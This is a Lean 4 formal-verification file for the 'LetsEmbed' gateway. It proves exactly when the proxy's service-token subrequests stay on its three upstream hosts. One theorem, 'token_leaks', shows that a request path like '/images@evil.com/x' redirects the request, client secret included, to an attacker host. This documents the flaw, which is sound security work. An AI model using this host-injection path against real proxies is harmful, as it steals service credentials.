import LetsEmbed.Gateway
import LetsEmbed.Systems.Authority

/-! Which host the gateway hands its service token to. The target is a constant
followed by text the client chose, so everything turns on where the host of the
concatenation ends. -/

namespace LetsEmbed.Gateway
open Text Systems Systems.Authority

def apiHost : String := "lets-embed-api.louisfly.icu"
def imageHost : String := "lets-embed-image.louisfly.icu"
def videoHost : String := "lets-embed-video.louisfly.icu"
def upstreamHosts : List String := [apiHost, imageHost, videoHost]

def urlHost (url : String) : Option String :=
  (stripPrefix "https://" url).map fun rest => String.ofList (host rest.toList)

structure OriginForm where
  text : String
  rooted : text.toList.head? = some '/'

/-- What follows the media prefix leaves the host alone, or replaces it by
another upstream through an at sign. -/
def Harmless (rest : String) : Prop :=
  segment rest.toList = [] ∨
    '@' ∈ segment rest.toList ∧ String.ofList (dropUserinfo (segment rest.toList)) ∈ upstreamHosts

def Confined (pq : String) : Prop :=
  ∀ rest, stripPrefix "/images" pq = some rest ∨ stripPrefix "/videos" pq = some rest → Harmless rest

theorem urlHost_append {base hostName : String} (rest : String) (url : base = "https://" ++ hostName)
    (clean : ∀ c ∈ hostName.toList, inside c = true) (plain : '@' ∉ hostName.toList) :
    urlHost (base ++ rest) = some (if '@' ∈ segment rest.toList then
      String.ofList (dropUserinfo (segment rest.toList)) else hostName ++ String.ofList (segment rest.toList)) := by
  have stripped : stripPrefix "https://" (base ++ rest) = some (hostName ++ rest) := by
    rw [stripPrefix_eq_some, url, String.toList_append, String.toList_append, String.toList_append, List.append_assoc]
  rw [urlHost, stripped, Option.map_some, String.toList_append, host_append clean plain]
  split
  · rfl
  · rw [String.ofList_append, String.ofList_toList]

/-- No upstream's host is a longer one than a media upstream's. -/
theorem extended_host {hostName : String} (media : hostName = imageHost ∨ hostName = videoHost) {more : List Char} :
    hostName ++ String.ofList more ∈ upstreamHosts ↔ more = [] := by
  constructor
  · intro member
    have bound : (hostName ++ String.ofList more).toList.length ≤ 29 := by
      simp only [upstreamHosts, List.mem_cons, List.not_mem_nil, or_false] at member
      rcases member with same | same | same <;> rw [same] <;> decide
    have length : hostName.toList.length = 29 := by rcases media with rfl | rfl <;> decide
    rw [String.toList_append, String.toList_ofList, List.length_append, length] at bound
    exact List.length_eq_zero_iff.mp (by omega)
  · rintro rfl
    have same : hostName ++ String.ofList [] = hostName := String.append_empty
    rw [same]
    rcases media with rfl | rfl <;> decide

theorem media_confined_iff {base hostName rest : String} (media : hostName = imageHost ∨ hostName = videoHost)
    (url : base = "https://" ++ hostName) :
    (∃ target ∈ upstreamHosts, urlHost (base ++ rest) = some target) ↔ Harmless rest := by
  have clean : ∀ c ∈ hostName.toList, inside c = true :=
    List.all_eq_true.mp (by rcases media with rfl | rfl <;> decide)
  have plain : '@' ∉ hostName.toList := by rcases media with rfl | rfl <;> decide
  have same (found : String) : (∃ target ∈ upstreamHosts, some found = some target) ↔ found ∈ upstreamHosts := by
    simp
  rw [urlHost_append rest url clean plain, same, Harmless]
  split
  next marked =>
    have some : segment rest.toList ≠ [] := List.ne_nil_of_mem marked
    simp [marked, some]
  next unmarked => simp [unmarked, extended_host media]

theorem apiUpstream_eq : apiUpstream = "https://" ++ apiHost := by decide
theorem imageUpstream_eq : imageUpstream = "https://" ++ imageHost := by decide
theorem videoUpstream_eq : videoUpstream = "https://" ++ videoHost := by decide

theorem api_confined (pq : OriginForm) : urlHost (apiUpstream ++ pq.text) = some apiHost := by
  have ends : segment pq.text.toList = [] := by
    have rooted := pq.rooted
    cases chars : pq.text.toList with
    | nil => rfl
    | cons c rest =>
      rw [chars] at rooted
      cases rooted
      rfl
  rw [urlHost_append pq.text apiUpstream_eq (List.all_eq_true.mp (by decide)) (by decide), ends]
  rfl

theorem media_exclusive {pq images videos : String} (first : stripPrefix "/images" pq = some images)
    (second : stripPrefix "/videos" pq = some videos) : False := by
  have same := (stripPrefix_eq_some.mp first).symm.trans (stripPrefix_eq_some.mp second)
  simp at same

theorem proxyTarget_images {pq rest : String} (images : stripPrefix "/images" pq = some rest) :
    proxyTarget (some pq) = imageUpstream ++ rest := by simp [proxyTarget, images]

theorem proxyTarget_videos {pq rest : String} (videos : stripPrefix "/videos" pq = some rest) :
    proxyTarget (some pq) = videoUpstream ++ rest := by
  cases images : stripPrefix "/images" pq with
  | some other => exact (media_exclusive images videos).elim
  | none => simp [proxyTarget, images, videos]

theorem proxyTarget_api {pq : String} (images : stripPrefix "/images" pq = none)
    (videos : stripPrefix "/videos" pq = none) : proxyTarget (some pq) = apiUpstream ++ pq := by
  simp [proxyTarget, images, videos]

theorem target_confined_iff (pq : OriginForm) :
    (∃ target ∈ upstreamHosts, urlHost (proxyTarget (some pq.text)) = some target) ↔ Confined pq.text := by
  cases images : stripPrefix "/images" pq.text with
  | some rest =>
    rw [proxyTarget_images images, media_confined_iff (.inl rfl) imageUpstream_eq]
    constructor
    · intro harmless other found
      rcases found with same | videos
      · cases images.symm.trans same
        exact harmless
      · exact (media_exclusive images videos).elim
    · exact fun confined => confined rest (.inl images)
  | none =>
    cases videos : stripPrefix "/videos" pq.text with
    | some rest =>
      rw [proxyTarget_videos videos, media_confined_iff (.inr rfl) videoUpstream_eq]
      constructor
      · intro harmless other found
        rcases found with same | same
        · cases images.symm.trans same
        · cases videos.symm.trans same
          exact harmless
      · exact fun confined => confined rest (.inr videos)
    | none =>
      rw [proxyTarget_api images videos]
      refine iff_of_true ⟨apiHost, by decide, api_confined pq⟩ fun rest found => ?_
      rcases found with same | same
      · cases images.symm.trans same
      · cases videos.symm.trans same

theorem setHeader_mem (headers : List (String × String)) (name value : String) :
    (name, value) ∈ setHeader headers name value := by simp [setHeader]

theorem setHeader_mem_of_ne {headers : List (String × String)} {name other value kept : String}
    (different : other ≠ name) (member : (other, kept) ∈ headers) : (other, kept) ∈ setHeader headers name value := by
  simp [setHeader, member, different]

theorem outgoing_token (st : State) (r : Request) :
    ("cf-access-client-id", st.clientId) ∈ (outgoing st r).headers ∧
      ("cf-access-client-secret", st.clientSecret) ∈ (outgoing st r).headers :=
  ⟨setHeader_mem_of_ne (by decide) (setHeader_mem ..), setHeader_mem ..⟩

/-- What reaches an upstream carries the service token and satisfies `allowed`. -/
def sending (st : State) (allowed : Outgoing → Prop) : Protocol Command Command.Reply Unit where
  asks _ command := ∀ sent, command = .send sent →
    ("cf-access-client-secret", st.clientSecret) ∈ sent.headers ∧ allowed sent
  answers _ _ _ := True
  after _ _ _ := ()

def Sends (st : State) (allowed : Outgoing → Prop) (handler : Handler Answer) : Prop :=
  handler.wp (sending st allowed) (fun _ _ => True) (fun _ _ => True) ()

section Sends
variable {st : State} {allowed : Outgoing → Prop} {r : Request}

theorem meter_quiet {sub : String} {ok : Unit → Unit → Prop} (done : ok () ()) :
    (meter st r sub).wp (sending st allowed) ok (fun _ _ => True) () := by
  have charged (key : String) (kind : Account.ChargeKind) (refused : Answer) :
      (chargeOrAnswer sub key kind refused).wp (sending st allowed) ok (fun _ _ => True) () := by
    simp only [chargeOrAnswer, Handler.wp_bind, Handler.wp_perform, Protocol.Step]
    refine ⟨fun sent => Command.noConfusion, fun reply _ => ?_⟩
    split
    · exact (Handler.wp_pure ()).mpr done
    all_goals exact (Handler.wp_throw _).mpr trivial
  unfold meter
  split
  · split
    · exact charged ..
    · exact (Handler.wp_pure ()).mpr done
  · split
    · exact charged ..
    · exact (Handler.wp_pure ()).mpr done
  all_goals exact (Handler.wp_pure ()).mpr done

/-- Some run of the metering lets the request pass. -/
theorem meter_passes {sub : String} {ok : Unit → Unit → Prop}
    (holds : (meter st r sub).wp (sending st allowed) ok (fun _ _ => True) ()) : ok () () := by
  have charged {key : String} {kind : Account.ChargeKind} {refused : Answer}
      (holds : (chargeOrAnswer sub key kind refused).wp (sending st allowed) ok (fun _ _ => True) ()) : ok () () := by
    simp only [chargeOrAnswer, Handler.wp_bind, Handler.wp_perform, Protocol.Step] at holds
    exact (Handler.wp_pure ()).mp (holds.2 (some 200) trivial)
  unfold meter at holds
  split at holds
  · split at holds
    · exact charged holds
    · exact (Handler.wp_pure ()).mp holds
  · split at holds
    · exact charged holds
    · exact (Handler.wp_pure ()).mp holds
  all_goals exact (Handler.wp_pure ()).mp holds

theorem proxy_sends : Sends st allowed (proxy st r) ↔ allowed (outgoing st r) := by
  simp only [Sends, proxy, Handler.wp_bind, Handler.wp_perform, Protocol.Step]
  constructor
  · exact fun sends => (sends.1 _ rfl).2
  · intro permitted
    refine ⟨fun sent same => ?_, fun reply _ => ?_⟩
    · cases same
      exact ⟨(outgoing_token st r).2, permitted⟩
    · cases reply
      all_goals exact (Handler.wp_pure _).mpr trivial

/-- An authenticated request is proxied in some run, and nothing else is sent. -/
theorem gateway_sends {token : String} {now : Nat} {claims : SessionClaims}
    (cookie : r.cookies sessionCookie = some token) (verified : st.jwtVerify token now = some claims)
    (outside : ¬ (r.path = "/user" ∨ startsWith r.path "/user/" = true)) :
    Sends st allowed (gateway st r) ↔ allowed (outgoing st r) := by
  unfold Sends gateway
  rw [if_neg outside]
  simp only [session, cookie, Handler.wp_bind, Handler.wp_perform, Protocol.Step, Handler.wp_pure]
  constructor
  · intro sends
    have authenticated := sends.2 now trivial
    rw [verified] at authenticated
    simp only [Handler.wp_bind] at authenticated
    exact proxy_sends.mp (meter_passes authenticated)
  · intro permitted
    refine ⟨fun sent => Command.noConfusion, fun reply _ => ?_⟩
    cases st.jwtVerify token reply with
    | none =>
      dsimp only
      split
      all_goals exact (Handler.wp_pure _).mpr trivial
    | some claims =>
      simp only [Handler.wp_bind]
      exact meter_quiet (proxy_sends.mpr permitted)

end Sends

/-- In every run of the gateway on an authenticated request, every subrequest
with the service token goes to one of the three upstreams, if and only if no
media prefix is continued by text that reaches into the host. -/
theorem token_confined_iff (st : State) (r : Request) (pq : OriginForm) (uri : r.pathAndQuery = some pq.text)
    {token : String} {now : Nat} {claims : SessionClaims} (cookie : r.cookies sessionCookie = some token)
    (verified : st.jwtVerify token now = some claims)
    (outside : ¬ (r.path = "/user" ∨ startsWith r.path "/user/" = true)) :
    Sends st (fun sent => ∃ target ∈ upstreamHosts, urlHost sent.target = some target) (gateway st r) ↔
      Confined pq.text := by
  rw [gateway_sends cookie verified outside, ← target_confined_iff, ← uri]
  exact Iff.rfl

section Example

def sampleToken : String :=
  "eyJzdWIiOiIweGFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWEiLCJpYXQiOjEwMDAsImV4cCI6NjA1ODAwfQ.0e2rLM5nh6m9XTd8ty86_5um9_9kJMkDeeJmtOdn6ug"

def sampleClaims : SessionClaims := ⟨"0x" ++ String.ofList (List.replicate 40 'a'), 1000, 605800⟩

def sampleState : State where
  jwtVerify token now := if token = sampleToken ∧ now ≤ sampleClaims.exp then some sampleClaims else none
  sha256Hex := id
  clientId := "id"
  clientSecret := "secret"

def sampleGet (pathAndQuery : String) : Request where
  pathAndQuery := some pathAndQuery
  method := .get
  headers := []
  cookies name := if name = sessionCookie then some sampleToken else none
  body := []

theorem sampleToken_verified : sampleState.jwtVerify sampleToken 1000 = some sampleClaims := by
  simp [sampleState, sampleClaims]

theorem sampleGet_cookie (pathAndQuery : String) :
    (sampleGet pathAndQuery).cookies sessionCookie = some sampleToken := by
  simp [sampleGet]

/-- An authenticated client picks where its request goes, token included. -/
theorem token_leaks :
    let r := sampleGet "/images@evil.com/x"
    urlHost (outgoing sampleState r).target = some "evil.com" ∧
      ("cf-access-client-secret", "secret") ∈ (outgoing sampleState r).headers ∧
      ¬ Sends sampleState (fun sent => ∃ target ∈ upstreamHosts, urlHost sent.target = some target)
        (gateway sampleState r) := by
  intro r
  have host : urlHost (outgoing sampleState r).target = some "evil.com" := by decide
  refine ⟨host, (outgoing_token sampleState r).2, fun sends => ?_⟩
  obtain ⟨target, member, same⟩ := (gateway_sends (sampleGet_cookie _) sampleToken_verified (by decide)).mp sends
  rw [host, Option.some.injEq] at same
  subst same
  exact absurd member (by decide)

theorem token_confined_iff_media :
    Sends sampleState (fun sent => ∃ target ∈ upstreamHosts, urlHost sent.target = some target)
      (gateway sampleState (sampleGet "/images/a@b.webp")) := by
  have confined : Confined "/images/a@b.webp" := by
    intro rest found
    have continued : rest = "/a@b.webp" := by
      rcases found with images | videos
      · have stripped : stripPrefix "/images" "/images/a@b.webp" = some "/a@b.webp" := by decide
        exact (Option.some.inj (stripped.symm.trans images)).symm
      · have foreign : stripPrefix "/videos" "/images/a@b.webp" = none := by decide
        cases foreign.symm.trans videos
    exact .inl (by rw [continued]; decide)
  exact (token_confined_iff sampleState (sampleGet "/images/a@b.webp") ⟨"/images/a@b.webp", by decide⟩ rfl
    (sampleGet_cookie _) sampleToken_verified (by decide)).mpr confined

end Example

end LetsEmbed.Gateway
